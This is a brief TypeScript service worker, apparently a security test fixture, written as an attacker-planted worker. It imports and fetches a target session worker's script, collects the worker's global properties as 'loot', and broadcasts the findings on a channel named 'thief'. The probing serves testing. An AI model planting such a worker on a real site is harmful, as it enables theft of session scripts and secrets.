/**
 * A service worker of the attacker's own, should the origin let one be put there: it imports and fetches the session worker's
 * script, and tells what it got.
 */
interface InstallingScope {
  readonly location: Location;
  importScripts(url: string): void;
  addEventListener(type: 'install', listener: (event: { waitUntil(work: Promise<unknown>): void }) => void): void;
}

const scope = self as unknown as InstallingScope;

const url = decodeURIComponent(scope.location.search.slice(1));
const loot: string[] = [];

try {
  scope.importScripts(url);
  loot.push('imported');
} catch (thrown) {
  loot.push(String(thrown));
}
for (const name of Object.getOwnPropertyNames(self)) loot.push(`${name}=${String(Reflect.get(self, name))}`);

scope.addEventListener('install', (event) => {
  const headers = { 'Service-Worker': 'script', 'Sec-Fetch-Dest': 'serviceworker' };
  const fetched = fetch(url, { headers })
    .then((response) => response.text())
    .catch(String);
  event.waitUntil(fetched.then((text) => new BroadcastChannel('thief').postMessage([...loot, text])));
});
